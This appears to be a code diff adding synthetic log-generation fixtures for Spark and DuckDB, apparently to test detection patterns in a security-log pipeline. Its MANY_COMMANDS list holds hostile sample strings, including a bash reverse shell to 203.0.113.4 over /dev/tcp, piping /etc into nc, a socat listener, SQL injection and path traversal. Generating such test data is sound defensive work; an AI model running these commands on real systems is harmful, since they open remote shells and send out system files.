@@ -37,3 +37,28 @@ def event_log(spark: SparkSession, sf_dir: str) -> DataFrame:
         F.when(kind == "click", pick(COMMANDS, k)).when(kind == "purchase", F.concat(F.lit("http://host"), text(k % 5), F.lit(".example/f"), text(k % 9))).alias("request_data"),
         F.when(kind == "view", F.concat(F.lit("/p/"), text(k % 11))).alias("http_uri"), (k % 4).cast("int").alias("severity"), "value",
     )
+
+
+#: Commands for every pattern flag, some with pipes, and an empty one.
+MANY_COMMANDS = [
+    *COMMANDS, "bash -i >& /dev/tcp/203.0.113.4/99 0>&1", "echo aGk= | base64 -d", "base64 -d x", "scp a b", "tar cz /etc | nc h 1", "q=union select 1", "cat ../../x", "echo `id`", "nmap 192.168.1.7",
+    "socat TCP-LISTEN:1 x", "mkfifo p", "a && b", "openssl TLS x", "4142434445464748494a4b4c", "whoami", "hostname", "", "tar c . | ssh h", "rc.local",
+]
+QUERIES = ["a.example", "one.two.three.four.five.example", "x" * 60 + ".example", "b.example"]
+
+#: DuckDB's form of ``wide_log``, to stand behind ``LOG_SQL``.
+WIDE_SQL = (
+    ", wide AS (SELECT id, log_source, timestamp, event_type, src_ip, dest_ip, CASE id % 5 WHEN 0 THEN 443 WHEN 1 THEN 22 ELSE (dest_port * 37) % 9000 END::INT AS dest_port, protocol, session_id, username, password, "
+    "CASE WHEN event_type = 'ssh_command' THEN [" + ", ".join(f"'{c}'" for c in MANY_COMMANDS) + f"][((dest_port + id) % {len(MANY_COMMANDS)} + 1)::INT] ELSE request_data END AS request_data, http_uri, "
+    "CASE WHEN event_type = 'http_request' AND id % 3 = 0 THEN [" + ", ".join(f"'{q}'" for q in QUERIES) + f"][(id % {len(QUERIES)} + 1)::INT] END AS dns_query FROM log)\n"
+)
+
+
+def wide_log(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """``event_log`` with more commands, ports and name queries."""
+    e, i = event_log(spark, sf_dir), F.col("id")
+    pick = lambda names, n: F.element_at(F.array(*map(F.lit, names)), (n % len(names) + 1).cast("int"))
+    port = F.when(i % 5 == 0, 443).when(i % 5 == 1, 22).otherwise(F.col("dest_port") * 37 % 9000)
+    command = F.when(F.col("event_type") == "ssh_command", pick(MANY_COMMANDS, F.col("dest_port") + i)).otherwise(F.col("request_data"))
+    name = F.when((F.col("event_type") == "http_request") & (i % 3 == 0), pick(QUERIES, i))
+    return e.drop("severity", "value").withColumns({"request_data": command, "dest_port": port.cast("int"), "dns_query": name})
